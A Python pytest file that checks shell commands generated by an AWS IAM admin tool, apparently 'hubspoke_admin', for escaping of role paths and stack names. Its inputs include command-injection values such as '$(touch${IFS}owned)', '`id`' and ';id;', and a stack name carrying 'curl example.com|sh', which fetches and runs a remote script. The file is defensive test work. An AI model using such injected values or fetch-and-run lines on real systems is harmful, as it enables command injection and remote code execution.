"""Commands that people paste, made of what others named."""

import re

import pytest

from hubspoke_admin.doctor.mends import Mends
from hubspoke_admin.documents.estate import Hub, Route
from hubspoke_contract.names import AccountId, RoleName, Target

_TARGET = Target(AccountId("333333333333"), RoleName("automation-spoke-role"))
_HUB = Hub("aws", AccountId("111111111111"), "prod", (), "arn:aws:iam::999999999999:role/hub", None)
_QUOTED = re.compile(r"'[^']*'|\"'\"")


@pytest.mark.parametrize("path", ["/$(touch${IFS}owned)/", "/`id`/", "/;id;/", "/a'b;id/", "/&id&/", "/|id/"])
@pytest.mark.parametrize("mend", ["trust", "boundary", "role", "hub_role", "hub_stack"])
def test_no_shell_takes_a_roles_path_for_more_than_a_word(mend: str, path: str) -> None:
    """IAM takes any printable ASCII character in a path, and whoever makes the role chooses it."""
    made = Mends(_HUB, _TARGET, path, Route.DIRECT)
    said = made.role(external_id=True) if mend == "role" else getattr(made, mend)
    # The one || that is the command's own is none of the path's.
    assert not set("$`;&|") & set(_QUOTED.sub("", said).replace(" || ", " "))


def test_a_path_of_plain_characters_is_not_quoted() -> None:
    """What needs no quotes has none."""
    assert "--path /hubspoke/ " in Mends(_HUB, _TARGET, "/hubspoke/", Route.DIRECT).boundary


def test_a_stack_of_no_stacks_name_is_left_out() -> None:
    """What doesn't read as a stack's name is a tag that somebody wrote."""
    assert "curl" not in Mends(_HUB, _TARGET, "/", Route.DIRECT, "x\ncurl example.com|sh").trust
    assert "The stack hubspoke-x made" in Mends(_HUB, _TARGET, "/", Route.DIRECT, "hubspoke-x").trust
